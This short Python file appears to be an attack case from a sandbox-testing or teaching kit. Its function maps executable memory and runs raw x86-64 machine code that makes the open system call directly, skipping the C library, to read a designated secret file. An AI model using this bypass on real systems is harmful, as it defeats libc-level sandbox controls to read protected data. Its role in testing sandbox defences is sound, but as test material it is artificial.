"""Success: a system call by the student's own machine code, past the C library."""

import ctypes
import mmap
import os
import platform

from kit import NUMBERS, got


def attack(a):
    if platform.machine() != "x86_64":
        return "this code is x86-64"
    area = mmap.mmap(
        -1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    )
    area[:10] = b"\x89\xf8\x48\x89\xf7\x89\xd6\x0f\x05\xc3"  # mov eax,edi; mov rdi,rsi; mov esi,edx; syscall; ret
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    call = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_int)(address)
    path = ctypes.create_string_buffer(a["secret_file"].encode())
    fd = call(2, ctypes.addressof(path), 0)
    return os.read(fd, 1000).decode() if fd >= 0 else f"refused: {fd}"
